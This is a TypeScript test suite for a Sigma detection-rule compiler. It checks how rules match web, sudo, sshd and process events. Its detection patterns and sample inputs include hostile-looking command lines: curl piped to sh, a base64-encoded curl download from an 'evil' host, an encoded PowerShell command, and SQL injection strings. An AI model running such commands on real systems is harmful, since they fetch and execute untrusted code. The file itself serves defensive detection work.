import { strict as assert } from 'node:assert';
import { describe, test } from 'node:test';
import { compileYaml, ruleWith } from './testing.js';

const PROC = 'product: linux\n    category: process_creation';
const proc = (commandLine: string, image = '/usr/bin/bash') => ({ event: { dataset: 'sudo', category: ['process'], type: ['start'] }, process: { command_line: commandLine, executable: image } });
const web = (url: string, extra: Record<string, unknown> = {}) => ({ event: { dataset: 'nginx.access' }, url: { original: url }, http: { request: { method: 'GET' }, response: { status_code: 200 } }, ...extra });

describe('Sigma values and modifiers', () => {
  test('plain values are case-insensitive equality; lists are OR; maps are AND', () => {
    const r = compileYaml(ruleWith('    sel:\n        cs-method:\n            - get\n            - post\n        sc-status: 200\n    condition: sel'));
    assert.deepEqual(r.problems, []);
    assert.ok(r.matches(web('/')));
    assert.ok(!r.matches({ ...web('/'), http: { request: { method: 'PUT' }, response: { status_code: 200 } } }));
    assert.ok(!r.matches({ ...web('/'), http: { request: { method: 'GET' }, response: { status_code: 404 } } }));
  });

  test('wildcards * and ?, escaped with backslash', () => {
    const r = compileYaml(ruleWith(String.raw`    sel:
        cs-uri-query:
            - '/adm?n/*.php'
            - '*\*star\?*'
            - 'C:\Windows\\*'
            - 'D:\Data\*'
    condition: sel`));
    assert.deepEqual(r.problems, []);
    assert.ok(r.matches(web('/ADMIN/x/y.php')));
    assert.ok(!r.matches(web('/admn/x.php')));
    assert.ok(r.matches(web('/a*star?b')));
    assert.ok(!r.matches(web('/aXstarYb')));
    assert.ok(r.matches(web('C:\\Windows\\system32')));
    assert.ok(r.matches(web('D:\\Data*')), 'a backslash before * escapes it');
    assert.ok(!r.matches(web('D:\\Data\\x')));
  });

  test('contains, startswith, endswith, all, cased', () => {
    const r = compileYaml(ruleWith(`    a:
        CommandLine|contains|all:
            - 'curl '
            - ' | sh'
    b:
        Image|endswith: '/wget'
    c:
        CommandLine|startswith|cased: 'Secret'
    condition: a or b or c`, PROC));
    assert.deepEqual(r.problems, []);
    assert.ok(r.matches(proc('CURL http://x | sh')));
    assert.ok(!r.matches(proc('curl http://x')));
    assert.ok(r.matches(proc('x', '/usr/bin/WGET')));
    assert.ok(r.matches(proc('Secret thing')));
    assert.ok(!r.matches(proc('secret thing')));
  });

  test('null matches an absent field, empty string an empty one, exists checks presence', () => {
    const r = compileYaml(ruleWith(`    sel:
        cs-referer: null
        cs-user-agent: ''
        c-ip|exists: true
    condition: sel`));
    assert.deepEqual(r.problems, []);
    assert.ok(r.matches({ ...web('/'), user_agent: { original: '' }, source: { ip: '192.0.2.1' } }));
    assert.ok(!r.matches({ ...web('/'), user_agent: { original: '' } }));
    assert.ok(!r.matches({ ...web('/'), user_agent: { original: '' }, source: { ip: '192.0.2.1' }, http: { request: { referrer: 'x' } } }));
  });

  test('neq, lt/lte/gt/gte on numbers', () => {
    const r = compileYaml(ruleWith(`    sel:
        sc-status|gte: 500
        sc-status|lt: 600
        cs-method|neq: HEAD
    condition: sel`));
    assert.deepEqual(r.problems, []);
    const withStatus = (s: number, m = 'GET') => ({ ...web('/'), http: { request: { method: m }, response: { status_code: s } } });
    assert.ok(r.matches(withStatus(503)));
    assert.ok(!r.matches(withStatus(404)));
    assert.ok(!r.matches(withStatus(600)));
    assert.ok(!r.matches(withStatus(500, 'HEAD')));
  });

  test('re with i, m, s flags runs on RE2 (linear time)', () => {
    const r = compileYaml(ruleWith(`    a:
        cs-uri-query|re: '^/x[0-9]+$'
    b:
        cs-uri-query|re|i: 'UNION\\s+SELECT'
    c:
        cs-user-agent|re|s: 'a.b'
    condition: 1 of them`));
    assert.deepEqual(r.problems, []);
    assert.ok(r.matches(web('/x123')));
    assert.ok(!r.matches(web('/X123/')));
    assert.ok(r.matches(web('/p?q=1 union  select 2')));
    assert.ok(r.matches(web('/', { user_agent: { original: 'a\nb' } })));
    const bad = compileYaml(ruleWith("    sel:\n        cs-uri-query|re: '(a)\\1'\n    condition: sel"));
    assert.equal(bad.problems.length, 1);
    assert.match(bad.problems[0]!.message, /linear time/);
    assert.equal(bad.problems[0]!.line, 7);
  });

  test('base64, base64offset and utf16 encodings', () => {
    const r = compileYaml(ruleWith(`    a:
        CommandLine|base64offset|contains: 'http://'
    b:
        CommandLine|base64: 'whoami'
    c:
        CommandLine|wide|base64offset|contains: 'cmd'
    condition: 1 of them`, PROC));
    assert.deepEqual(r.problems, []);
    for (const prefix of ['', 'a', 'ab']) {
      const encoded = Buffer.from(`${prefix}curl http://evil/x`).toString('base64');
      assert.ok(r.matches(proc(`echo ${encoded} | base64 -d`)), `offset ${prefix.length}`);
    }
    assert.ok(r.matches(proc(Buffer.from('whoami').toString('base64'))));
    assert.ok(r.matches(proc(`powershell -enc ${Buffer.from('xx cmd /c', 'utf16le').toString('base64')}`)));
    assert.ok(!r.matches(proc('plain text')));
  });

  test('windash matches every dash form of a flag', () => {
    const r = compileYaml(ruleWith("    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel", PROC));
    assert.deepEqual(r.problems, []);
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.ok(r.matches(proc(`find . ${dash}exec rm`)), dash);
    assert.ok(!r.matches(proc('find . exec rm')));
  });

  test('cidr on IPv4 and IPv6', () => {
    const r = compileYaml(ruleWith("    sel:\n        c-ip|cidr:\n            - 10.0.0.0/8\n            - '2001:db8::/32'\n    condition: sel"));
    assert.deepEqual(r.problems, []);
    assert.ok(r.matches(web('/', { source: { ip: '10.2.3.4' } })));
    assert.ok(r.matches(web('/', { source: { ip: '2001:db8::7' } })));
    assert.ok(!r.matches(web('/', { source: { ip: '11.0.0.1' } })));
    assert.ok(!r.matches(web('/', { source: { ip: 'not an ip' } })));
  });

  test('fieldref compares two fields, with neq', () => {
    const same = compileYaml(ruleWith('    sel:\n        user.name|fieldref: user.effective.name\n    condition: sel', 'product: linux\n    service: sudo'));
    const differ = compileYaml(ruleWith('    sel:\n        user.name|fieldref|neq: user.effective.name\n    condition: sel', 'product: linux\n    service: sudo'));
    assert.deepEqual([...same.problems, ...differ.problems], []);
    const ev = (a: string, b: string) => ({ event: { dataset: 'sudo' }, user: { name: a, effective: { name: b } } });
    assert.ok(same.matches(ev('root', 'ROOT')));
    assert.ok(!same.matches(ev('alice', 'root')));
    assert.ok(differ.matches(ev('alice', 'root')));
    assert.ok(!differ.matches(ev('root', 'root')));
  });

  test('time modifiers extract parts of a date (UTC)', () => {
    const r = compileYaml(ruleWith(`    sel:
        '@timestamp|hour|gte': 22
        '@timestamp|month': 1
        '@timestamp|year': 2025
        '@timestamp|day|lte': 20
        '@timestamp|week': 4
        '@timestamp|minute|lt': 30
    condition: sel`));
    assert.deepEqual(r.problems, []);
    assert.ok(r.matches({ ...web('/'), '@timestamp': '2025-01-20T23:10:00.000Z' }));
    assert.ok(!r.matches({ ...web('/'), '@timestamp': '2025-01-20T21:10:00.000Z' }));
    assert.ok(!r.matches({ ...web('/'), '@timestamp': '2025-01-20T23:40:00.000Z' }));
  });

  test('expand replaces configured placeholders, and an unconfigured one is a clear error', () => {
    const yaml = ruleWith("    sel:\n        cs-username|expand: '%Administrators%'\n    condition: sel");
    const r = compileYaml(yaml, { placeholders: { Administrators: ['root', 'adm*'] } });
    assert.deepEqual(r.problems, []);
    assert.ok(r.matches(web('/', { user: { name: 'admin' } })));
    assert.ok(!r.matches(web('/', { user: { name: 'bob' } })));
    const missing = compileYaml(yaml);
    assert.match(missing.problems[0]!.message, /placeholder %Administrators% has no values/);
  });

  test('keywords search the logsource keyword fields, with |all', () => {
    const r = compileYaml(`title: k\nlogsource:\n    product: linux\n    service: sshd\ndetection:\n    keywords:\n        - 'break-in'\n        - 'Bad protocol*from'\n    both:\n        '|all':\n            - 'alpha'\n            - 'omega'\n    condition: keywords or both\n`);
    assert.deepEqual(r.problems, []);
    const ssh = (message: string) => ({ event: { dataset: 'sshd' }, message });
    assert.ok(r.matches(ssh('reverse mapping failed - POSSIBLE BREAK-IN ATTEMPT!')));
    assert.ok(r.matches(ssh("Bad protocol version identification 'x' from 1.2.3.4")));
    assert.ok(r.matches(ssh('omega then alpha')));
    assert.ok(!r.matches(ssh('alpha only')));
  });

  test('extension modifiers come from the registry passed in', () => {
    const sqli = (v: string) => /union\s+select/i.test(v);
    const yaml = ruleWith('    sel:\n        url.query|vigil.sqli: true\n    condition: sel');
    const r = compileYaml(yaml, { extensions: { sqli } });
    assert.deepEqual(r.problems, []);
    assert.ok(r.matches(web('/p', { url: { original: '/p', query: 'id=1 UNION SELECT 2' } })));
    assert.ok(!r.matches(web('/p', { url: { original: '/p', query: 'id=1' } })));
    assert.match(r.explain(web('/p', { url: { original: '/p', query: 'id=1 union select 2' } })), /vigil\.sqli/);
    const unknown = compileYaml(yaml, { extensions: { xss: () => true } });
    assert.match(unknown.problems[0]!.message, /unknown extension modifier "vigil.sqli" \(known: vigil.xss\)/);
    const throwing = compileYaml(yaml, { extensions: { sqli: () => { throw new Error('boom'); } } });
    assert.ok(!throwing.matches(web('/p', { url: { original: '/p', query: 'x' } })));
  });

  test('mapped fields with several targets and translated values', () => {
    const r = compileYaml(ruleWith("    sel:\n        Initiated: 'true'\n        DestinationPort: 4444\n    condition: sel", 'product: linux\n    category: network_connection'));
    assert.deepEqual(r.problems, []);
    const conn = (direction: string) => ({ event: { dataset: 'host.network' }, network: { direction }, destination: { port: 4444 } });
    assert.ok(r.matches(conn('egress')));
    assert.ok(!r.matches(conn('ingress')));
  });

  test('list-valued fields match when any element does', () => {
    const r = compileYaml(ruleWith('    sel:\n        event.category: authentication\n    condition: sel', 'product: linux\n    service: sshd'));
    assert.ok(r.matches({ event: { dataset: 'sshd', category: ['session', 'authentication'] } }));
    assert.ok(!r.matches({ event: { dataset: 'sshd', category: ['session'] } }));
  });
});

describe('rule errors name the file, line and field', () => {
  test('an unknown field of a mapped logsource', () => {
    const r = compileYaml(ruleWith("    sel:\n        cs-uri-qeury: 'x'\n    condition: sel"));
    assert.equal(r.problems.length, 1);
    assert.deepEqual({ file: r.problems[0]!.file, line: r.problems[0]!.line }, { file: 'test.yml', line: 7 });
    assert.match(r.problems[0]!.message, /unknown field "cs-uri-qeury" for logsource category webserver/);
  });

  test('unknown modifiers, bad combinations, bad values', () => {
    for (const [key, value, why] of [
      ['cs-uri-query|containz', "'x'", /unknown modifier "containz"/],
      ['cs-uri-query|re|cidr', "'x'", /cannot be combined/],
      ['cs-uri-query|i', "'x'", /must follow "re"/],
      ['c-ip|cidr', "'10.0.0.0/33'", /not a CIDR block/],
      ['sc-status|gt', "'many'", /needs a number/],
      ['cs-uri-query|exists', "'yes'", /takes true or false/],
      ['cs-uri-query|base64', "'a*b'", /cannot encode a value with wildcards/],
    ] as const) {
      const r = compileYaml(ruleWith(`    sel:\n        ${key}: ${value}\n    condition: sel`));
      assert.equal(r.problems.length, 1, key);
      assert.match(r.problems[0]!.message, why, key);
      assert.equal(r.problems[0]!.line, 7, key);
    }
  });

  test('conditions naming missing identifiers or patterns', () => {
    const missing = compileYaml(ruleWith("    sel:\n        cs-method: GET\n    condition: sel and filter"));
    assert.match(missing.problems[0]!.message, /"filter" is not a search identifier/);
    assert.equal(missing.problems[0]!.line, 8);
    const pattern = compileYaml(ruleWith("    sel:\n        cs-method: GET\n    condition: sel and not 1 of filter_*"));
    assert.match(pattern.problems[0]!.message, /matches no search identifier/);
    const agg = compileYaml(ruleWith("    sel:\n        cs-method: GET\n    condition: sel | count() by c-ip > 10"));
    assert.match(agg.problems[0]!.message, /correlation rule/);
  });

  test('inactive logsources compile and pass fields through', () => {
    const r = compileYaml(ruleWith("    sel:\n        EventID: 4625\n    condition: sel", 'product: windows\n    service: security'));
    assert.deepEqual(r.problems, []);
    assert.equal(r.rule?.inactive, 'no Vigil source for product windows');
  });
});

describe('conditions', () => {
  const rule = compileYaml(ruleWith(`    sel_a:
        cs-method: GET
    sel_b:
        sc-status: 200
    filter_x:
        cs-uri-query|contains: 'health'
    _hidden:
        cs-uri-query|contains: 'nothing'
    condition:
        - all of sel_* and not 1 of filter_*
        - 1 of them and cs-user-agent-x`.replace('cs-user-agent-x', '(sel_a and (sel_b or filter_x))')));

  test('all of / 1 of patterns, not, parentheses, lists of conditions (OR)', () => {
    assert.deepEqual(rule.problems, []);
    assert.ok(rule.matches(web('/index')));
    assert.ok(rule.matches(web('/health'))); // second condition: 1 of them and (sel_a and (… or filter_x))
    assert.ok(!rule.matches({ ...web('/index'), http: { request: { method: 'POST' }, response: { status_code: 200 } } }));
  });

  test('the reason names the selections and values that matched', () => {
    const reason = rule.explain(web('/index'));
    assert.match(reason, /sel_a: http\.request\.method = 'get'|sel_a: .*get/i);
    assert.match(reason, /sel_b/);
  });
});
